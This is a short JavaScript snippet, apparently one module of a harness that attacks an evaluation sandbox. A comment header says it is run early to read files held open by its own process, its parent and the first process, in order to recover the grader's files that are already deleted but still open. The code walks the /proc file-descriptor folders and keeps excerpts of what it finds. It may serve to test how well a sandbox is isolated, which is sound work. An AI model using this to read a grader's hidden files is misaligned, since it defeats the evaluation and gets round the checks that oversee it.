// ---
// tries: Reads the files that its parent, the first process and itself have open.
// place: before
// gain: files of the grader that are deleted already, but still open
// helps: undumpable
// ---
for (const folder of ["/proc/self/fd", ...attack.parents.map((pid) => "/proc/" + pid + "/fd")]) {
  for (const number of attack.quietly(() => attack.fs.readdirSync(folder)) ?? []) {
    const target = attack.quietly(() => attack.fs.readlinkSync(folder + "/" + number)) ?? "";
    if (!target.startsWith("/") || /^\/(dev|proc|shared)\//.test(target)) continue;
    const text = attack.excerpt(folder + "/" + number);
    if (text) attack.keep({ read: [{ path: target, text }] });
  }
}
